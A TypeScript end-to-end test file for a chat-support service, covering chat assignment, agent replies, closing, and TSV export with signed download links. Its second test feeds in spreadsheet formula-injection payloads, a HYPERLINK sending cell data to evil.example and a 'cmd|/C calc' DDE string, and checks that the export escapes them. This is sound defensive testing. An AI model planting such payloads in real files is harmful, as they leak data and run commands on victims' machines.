import { ApiClient, createTenant, db, eventually, TestTenant } from '@kyc/testing';

import { ConnectedTenant, connectTenant, events } from './support/engagement-helpers';
import { useEngagementStack } from './support/engagement-stack';
import { addAgent, chatOf, putJson, TestAgent, userWrites } from './support/workspace-helpers';

describe('agent workspace end to end: a user message opens a chat, an agent answers, closes and exports it', () => {
  let tenant: TestTenant;
  let t: ConnectedTenant;
  let agent: TestAgent;
  let agentApi: ApiClient;

  const stack = useEngagementStack({ consumerGroup: 'account-workspace-e2e' });

  beforeAll(async () => {
    tenant = await createTenant(stack.account.url, [stack.engagement.url]);
    t = await connectTenant(new ApiClient(stack.engagement.url, tenant.apiKey), stack.sandbox);
    agent = await addAgent(stack.account.url, stack.engagement.url, tenant, 'ana');
    agentApi = agent.api;
  });

  it('runs the whole conversation', async () => {
    // An online agent with capacity.
    const online = await agentApi.postJson('/v1/engagement/agent/status', {
      username: agent.email,
      status: 'online',
    });
    expect(online.status).toBe(200);
    expect(online.body).toMatchObject({ username: agent.email, status: 'online', capacity: 5, active_chats: 0 });
    // Its role and permissions come from the access cache (account's users and roles).
    expect(online.body.role).toBe('default_access');
    expect(online.body.permissions).toContain('validations.face_recognition');
    expect(online.body.permissions).not.toContain('svc.users');

    // A user writes to the line through the sandbox provider: a chat opens and goes to the agent.
    await userWrites(stack.sandbox, t, '573001112233', 'Hola, necesito ayuda con mi pedido', 'Ana Gómez');
    const chat = await chatOf(t.api, '+573001112233', (c) => c.owner !== null);
    expect(chat).toMatchObject({
      line: t.line,
      status: 'open',
      owner: agent.email,
      enqueued: false,
      contact: { phone: '+573001112233', name: 'Ana Gómez' },
    });
    const agents = await t.api.get(`/v1/engagement/agent/status?username=${encodeURIComponent(agent.email)}`);
    expect(agents.body.agents[0]).toMatchObject({ active_chats: 1, free_capacity: 4 });

    // A second message joins the same chat.
    await userWrites(stack.sandbox, t, '573001112233', 'Es el pedido 77', 'Ana Gómez');
    await eventually(async () => {
      const acts = await t.api.get(`/v1/engagement/chat/${chat.chat_id}/activities?activity_type=message`);
      expect(acts.body.activities).toHaveLength(2);
    });

    // The agent answers (a session message: the user wrote within 24 hours); the sandbox records it.
    const sent = await agentApi.postJson(`/v1/engagement/chat/${chat.chat_id}/send`, {
      text: 'Hola Ana, ya lo reviso',
    });
    expect(sent.status).toBe(201);
    expect(sent.body).toMatchObject({
      actor_type: 'agent',
      actor: agent.email,
      activity_type: 'message',
      message_status: 'accepted',
    });
    const atProvider = stack.sandbox.messages().filter((m) => m.to === '573001112233');
    expect(atProvider).toEqual([
      expect.objectContaining({
        type: 'text',
        body: expect.objectContaining({ text: { body: 'Hola Ana, ya lo reviso' } }),
      }),
    ]);

    // Its delivery statuses come back as activities.
    await eventually(
      async () => {
        const acts = await t.api.get(`/v1/engagement/chat/${chat.chat_id}/activities?activity_type=status_change`);
        expect(acts.body.activities.map((a: any) => a.message_status)).toEqual(
          expect.arrayContaining(['sent', 'delivered', 'read']),
        );
      },
      { timeoutMs: 15_000 },
    );
    const messages = await t.api.get(`/v1/engagement/chat/${chat.chat_id}/activities?activity_type=message`);
    expect(messages.body.activities.map((a: any) => [a.actor_type, a.text])).toEqual([
      ['user', 'Hola, necesito ayuda con mi pedido'],
      ['user', 'Es el pedido 77'],
      ['agent', 'Hola Ana, ya lo reviso'],
    ]);
    expect(messages.body.activities[2].message_status).toBe('read');

    // Closed: the agent's capacity is free again; the events were written.
    const closed = await putJson(agentApi, `/v1/engagement/chat/agent/${chat.chat_id}`, { status: 'closed' });
    expect(closed.status).toBe(200);
    expect(closed.body).toMatchObject({ status: 'closed', owner: agent.email });
    const after = await t.api.get(`/v1/engagement/agent/status?username=${encodeURIComponent(agent.email)}`);
    expect(after.body.agents[0]).toMatchObject({ active_chats: 0, free_capacity: 5 });
    expect(await events(tenant.tenantId, 'engagement.chat.opened')).toEqual([
      expect.objectContaining({
        chat_id: chat.chat_id,
        user_phone_number: '+573001112233',
        waba_phone_number: t.line,
        contact_name: 'Ana Gómez',
        status: 'open',
      }),
    ]);
    expect(await events(tenant.tenantId, 'engagement.chat.assigned')).toEqual([
      expect.objectContaining({ chat_id: chat.chat_id, owner: agent.email, assigned_by: 'ruleset' }),
    ]);
    expect(await events(tenant.tenantId, 'engagement.chat.closed')).toEqual([
      expect.objectContaining({ chat_id: chat.chat_id, owner: agent.email, messages: 3, status: 'closed' }),
    ]);

    // Exported as TSV (one chat, this month): the rows are the conversation.
    const month = new Date().toISOString().slice(0, 7);
    const requested = await t.api.postJson('/v1/engagement/chat/export', {
      language: 'es',
      export_type: 'single_chat',
      export_format: 'tsv',
      time_range_start_date: month,
      time_range_end_date: month,
      chat_id: chat.chat_id,
      name: 'Pedido 77',
    });
    expect(requested.status).toBe(201);
    expect(requested.body).toMatchObject({
      status: 'pending',
      time_range_start_date: month,
      time_range_end_date: month,
    });
    const done = await eventually(async () => {
      const got = await t.api.get(`/v1/engagement/chat/export/${requested.body.export_id}`);
      if (got.body.status !== 'completed') throw new Error(`export is ${got.body.status}`);
      return got.body;
    });
    expect(done.rows).toBe(3);
    const link = new URL(done.download_url);
    const file = await fetch(`${stack.engagement.url}${link.pathname}${link.search}`);
    expect(file.status).toBe(200);
    expect(file.headers.get('content-type')).toContain('text/tab-separated-values');
    const lines = (await file.text())
      .trimEnd()
      .split('\n')
      .map((l) => l.split('\t'));
    expect(lines[0]).toEqual([
      'id_chat',
      'linea',
      'telefono_contacto',
      'nombre_contacto',
      'agente',
      'estado_chat',
      'fecha',
      'tipo_actor',
      'actor',
      'tipo_actividad',
      'texto',
      'estado_entrega',
    ]);
    expect(lines.slice(1).map((r) => [r[0], r[2], r[3], r[7], r[8], r[9], r[10], r[11]])).toEqual([
      [
        chat.chat_id,
        '+573001112233',
        'Ana Gómez',
        'usuario',
        '+573001112233',
        'mensaje',
        'Hola, necesito ayuda con mi pedido',
        '',
      ],
      [chat.chat_id, '+573001112233', 'Ana Gómez', 'usuario', '+573001112233', 'mensaje', 'Es el pedido 77', ''],
      [chat.chat_id, '+573001112233', 'Ana Gómez', 'agente', agent.email, 'mensaje', 'Hola Ana, ya lo reviso', 'leido'],
    ]);
    // A link with another signature, or another export's signature, is refused.
    const forged = new URL(link);
    forged.searchParams.set('signature', 'x'.repeat(43));
    expect((await fetch(`${stack.engagement.url}${forged.pathname}${forged.search}`)).status).toBe(403);
    const later = new URL(link);
    later.searchParams.set('expires', String(Number(link.searchParams.get('expires')) + 60));
    expect((await fetch(`${stack.engagement.url}${later.pathname}${later.search}`)).status).toBe(403);
    const listed = await t.api.get('/v1/engagement/chat/export?name=pedido&language=es&export_type=single_chat');
    expect(listed.body.exports.map((e: any) => e.export_id)).toEqual([done.export_id]);

    // A new message after closing opens a new chat.
    await userWrites(stack.sandbox, t, '573001112233', 'Otra pregunta');
    const second = await chatOf(t.api, '+573001112233');
    expect(second.chat_id).not.toBe(chat.chat_id);
    const rows = await db().query(`SELECT count(*)::int AS n FROM engagement.chats WHERE tenant_id = $1`, [
      tenant.tenantId,
    ]);
    expect(rows.rows[0].n).toBe(2);
  });

  it('exports what users typed as text: a cell that would start a formula gets a leading quote', async () => {
    const formula = '=HYPERLINK("http://evil.example/?"&A1,"ver pedido")';
    const texts = [formula, '\t-2+3+cmd|" /C calc"!A0', '-1'];
    let chat: any;
    for (const [i, text] of texts.entries()) {
      // One at a time, so the export's rows come in this order.
      await userWrites(stack.sandbox, t, '573004445566', text, '@SUMA(1+1)');
      chat = await chatOf(t.api, '+573004445566');
      await eventually(async () => {
        const acts = await t.api.get(`/v1/engagement/chat/${chat.chat_id}/activities?activity_type=message`);
        expect(acts.body.activities).toHaveLength(i + 1);
      });
    }
    const month = new Date().toISOString().slice(0, 7);
    const requested = await t.api.postJson('/v1/engagement/chat/export', {
      language: 'en',
      export_type: 'single_chat',
      export_format: 'tsv',
      time_range_start_date: month,
      time_range_end_date: month,
      chat_id: chat.chat_id,
    });
    expect(requested.status).toBe(201);
    const done = await eventually(async () => {
      const got = await t.api.get(`/v1/engagement/chat/export/${requested.body.export_id}`);
      if (got.body.status !== 'completed') throw new Error(`export is ${got.body.status}`);
      return got.body;
    });
    const link = new URL(done.download_url);
    const text = await (await fetch(`${stack.engagement.url}${link.pathname}${link.search}`)).text();
    const rows = text
      .trimEnd()
      .split('\n')
      .slice(1)
      .map((l) => l.split('\t'));
    // contact phone and name, actor, text
    expect(rows.map((r) => [r[2], r[3], r[8], r[10]])).toEqual([
      ['+573004445566', "'@SUMA(1+1)", '+573004445566', `'${formula}`],
      ['+573004445566', "'@SUMA(1+1)", '+573004445566', `'\\t-2+3+cmd|" /C calc"!A0`],
      ['+573004445566', "'@SUMA(1+1)", '+573004445566', '-1'],
    ]);
    // No cell of the file starts a formula.
    for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+@-](?![0-9.]+$)/);
  });
});
